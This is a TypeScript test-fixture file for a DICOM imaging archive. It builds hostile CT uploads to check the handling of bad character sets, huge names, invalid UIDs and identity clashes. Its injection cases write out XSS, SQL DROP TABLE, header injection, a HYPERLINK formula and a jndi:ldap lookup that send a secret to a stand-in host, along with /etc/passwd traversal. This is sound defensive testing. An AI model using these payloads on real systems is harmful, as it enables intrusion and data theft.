import { failureReasons } from '../../shared/store/failure-reasons.ts';
import { freshUid } from '../makers/fresh-uid.ts';
import { ctWith, hostileCt, secret } from '../makers/hostile-ct.ts';
import { element } from '../makers/part10.ts';
import { transferSyntaxes } from '../makers/part10-file.ts';
import type { OfferedFile } from './offered-file.ts';

const uidInvalid = { status: 409, reason: failureReasons.uidInvalid };
const duplicate = { status: 409, reason: failureReasons.duplicateSopInstance };
const ofAnotherStudy = { status: 409, reason: failureReasons.studyMismatch };
const outOfResources = { status: 409, reason: failureReasons.outOfResources };
const implicit = { transferSyntaxUid: transferSyntaxes.implicitLittleEndian };
const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1');

const stored = (number: string, law: string, make: OfferedFile['make']): OfferedFile => ({
  class: number,
  law,
  make,
  expect: 'stored',
});
const badUid = (what: string, uid: string): OfferedFile => ({
  class: '66',
  law: `${what} is no UID, and becomes no path`,
  make: () => hostileCt({ studyUid: uid }),
  expect: uidInvalid,
});

const characterSets: readonly OfferedFile[] = [
  stored('63', 'an unknown character set is no reason to refuse an image', () =>
    hostileCt({ charset: 'ISO_IR 999', patientName: latin1(`${secret}\xe9\xff`) }),
  ),
  stored('63', 'a character set that lies gives replacement characters, not a failure', () =>
    hostileCt({ charset: 'ISO_IR 192', patientName: latin1(`${secret}\xe9\xfc `) }),
  ),
  stored('63', 'an escape sequence that is cut off is no failure', () =>
    hostileCt({ charset: '\\ISO 2022 IR 87', patientName: latin1(`${secret}\x1b$`) }),
  ),
  stored('63', 'a million escape sequences take no longer than their bytes', () =>
    hostileCt({ ...implicit, charset: '\\ISO 2022 IR 87', patientName: latin1('\x1b$B\x1b(B'.repeat(150_000)) }),
  ),
  stored('63', 'overlong UTF-8 is not the character that it hides', () =>
    hostileCt({ patientName: latin1(`${secret}\xc0\xaf\xe0\x80\xaf `) }),
  ),
  stored('63', 'lone surrogates in UTF-8 are no failure', () =>
    hostileCt({ patientName: latin1(`${secret}\xed\xa0\x80 `) }),
  ),
  stored('63', 'control characters in a short text are no failure', () =>
    ctWith([element('00081030', 'LO', latin1(`a\0b\rc\nd\te\x1b\x7f${secret}STUDY `))]),
  ),
  stored('63', 'a character set of a thousand values is no failure', () =>
    hostileCt({ charset: 'ISO 2022 IR 87\\'.repeat(1000) }),
  ),
];

/** With a secret of its own each: a name that stands elsewhere too is another law (G1). */
const placesOfText = [
  ['patientName', 'a name', secret],
  ['patientId', 'an ID', `${secret}ID`],
  ['accessionNumber', 'an accession number', `${secret}VISIT`],
] as const;

const names: readonly OfferedFile[] = [
  stored('64', 'a name of 10 kB is kept whole', () => hostileCt({ patientName: secret.repeat(850) })),
  stored('64', 'a name of twenty components is kept', () => hostileCt({ patientName: `${secret}^`.repeat(20) })),
  stored('64', 'a name of a thousand groups is kept, three of them being a name', () =>
    hostileCt({ patientName: '='.repeat(1000) }),
  ),
  stored('64', 'a name of 400 kB of delimiters takes no longer than its bytes', () =>
    hostileCt({ ...implicit, patientName: '^'.repeat(400_000) }),
  ),
  {
    class: '64',
    law: 'a name of 4 MB is refused at its first byte: no name is that long',
    make: () => hostileCt({ ...implicit, patientName: secret.repeat(350_000) }),
    expect: outOfResources,
  },
  {
    class: '64',
    law: '17 MB of text are refused at the first byte beyond the limit',
    make: () => hostileCt({ ...implicit, patientName: secret.repeat(1_500_000) }),
    expect: outOfResources,
  },
  ...[
    ['HTML', `<script>alert("${secret}")</script>`],
    ['SQL', `${secret}'; DROP TABLE studies; --`],
    ['a log line', `${secret}\n{"level":"info","event":"request"}`],
    ['a header', `${secret}\r\nSet-Cookie: a=b`],
    ['a spreadsheet formula', `=HYPERLINK("http://x/${secret}")`],
    ['JSON', `"},{"${secret}":"`],
    ['a format string', `%s%n%x$\{jndi:ldap://x/${secret}}`],
  ].flatMap(([what, text = '']) =>
    placesOfText.map(([attribute, place, word]) =>
      stored('65', `${what} in ${place} is text, and stays there`, () =>
        hostileCt({ [attribute]: text.replace(secret, word) }),
      ),
    ),
  ),
];

const uids: readonly OfferedFile[] = [
  badUid('an empty text', ''),
  badUid('a text of 65 characters', `1.${'2'.repeat(63)}`),
  badUid('a component with a leading zero', '1.02.3'),
  badUid('a word', secret),
  badUid('a way up the folders', '../../../../etc/passwd'),
  badUid('a way up in percents', '%2e%2e%2f'),
  badUid('a text with a line break', '1.2\r\n3'),
  badUid('a text with a NUL inside', '1.2\0/3'),
  badUid('a number of Arabic digits', '1.2.\u0661\u0662'),
  badUid('a pair of UIDs', '1.2\\1.3'),
  badUid('a single dot', '.'),
  badUid('a device of Windows', 'NUL'),
  badUid('a name that JavaScript knows', '__proto__'),
  {
    class: '66',
    law: 'a series UID is held to the same rule',
    make: () => hostileCt({ seriesUid: '../1' }),
    expect: uidInvalid,
  },
  {
    class: '66',
    law: 'a SOP Instance UID is held to the same rule',
    make: () => hostileCt({ sopInstanceUid: '1..2' }),
    expect: uidInvalid,
  },
  {
    class: '66',
    law: 'a SOP Class UID is held to the same rule',
    make: () => hostileCt({ sopClassUid: secret }),
    expect: uidInvalid,
  },
  stored('66', 'a study UID that is a SOP Instance UID as well confuses nobody', () => {
    const uid = freshUid();
    return hostileCt({ studyUid: uid, seriesUid: uid, sopInstanceUid: uid });
  }),
];

const identities: readonly OfferedFile[] = [
  {
    class: '67',
    law: 'an instance of another study than the URL names is refused',
    make: () => ({ ...hostileCt(), path: `/studies/${freshUid()}` }),
    expect: ofAnotherStudy,
  },
  {
    class: '68',
    law: 'a SOP Instance UID that another study holds is refused, and the other study is untouched',
    make: () => {
      const before = hostileCt();
      return { bytes: hostileCt({ sopInstanceUid: before.key.sopInstanceUid }).bytes, before: [before] };
    },
    expect: duplicate,
  },
  stored('68', 'a series UID that another study holds is a series of its own in each', () => {
    const before = hostileCt();
    return { ...hostileCt({ seriesUid: before.key.seriesUid }), before: [before] };
  }),
  stored('68', 'another patient in a known study is kept, and found where the study is found', () => {
    const before = hostileCt();
    return { ...hostileCt({ studyUid: before.key.studyUid, patientId: `${secret}-2` }), before: [before] };
  }),
  {
    class: '69',
    law: 'other bytes under a known SOP Instance UID are refused, and the original is untouched',
    make: () => {
      const before = hostileCt();
      return { bytes: hostileCt({ ...before.key, patientId: `${secret}-2` }).bytes, before: [before] };
    },
    expect: duplicate,
  },
  {
    class: '69',
    law: 'a single other pixel is other bytes',
    make: () => {
      const before = hostileCt();
      const bytes = Buffer.from(before.bytes);
      bytes[bytes.length - 1] = 1;
      return { bytes, before: [before] };
    },
    expect: duplicate,
  },
  ...['0020000D', '0020000E', '00080018', '00080016'].map(
    (tag): OfferedFile => ({
      class: '70',
      law: `an instance without ${tag} is nobody's, and refused`,
      make: () => hostileCt({ without: [tag] }),
      expect: uidInvalid,
    }),
  ),
  stored('70', 'an instance without patient, dates and modality is kept: they are not what finds it', () =>
    hostileCt({
      without: ['00100010', '00100020', '00100030', '00080020', '00080030', '00080060', '00200011', '00200013'],
    }),
  ),
  ...['00000000', '9999', '99999999', '20260101-20261231', '20260230', '2026.01.01', secret.slice(0, 8)].map((date) =>
    stored(
      '71',
      `a study date of ${date === secret.slice(0, 8) ? 'letters' : date} is kept, and is found by no range`,
      () => hostileCt({ studyDate: date, patientBirthDate: date, studyTime: '99:99' }),
    ),
  ),
];

/** Classes 63–71: texts, names, and who an instance says it is. */
export const textAndIdentity: readonly OfferedFile[] = [...characterSets, ...names, ...uids, ...identities];
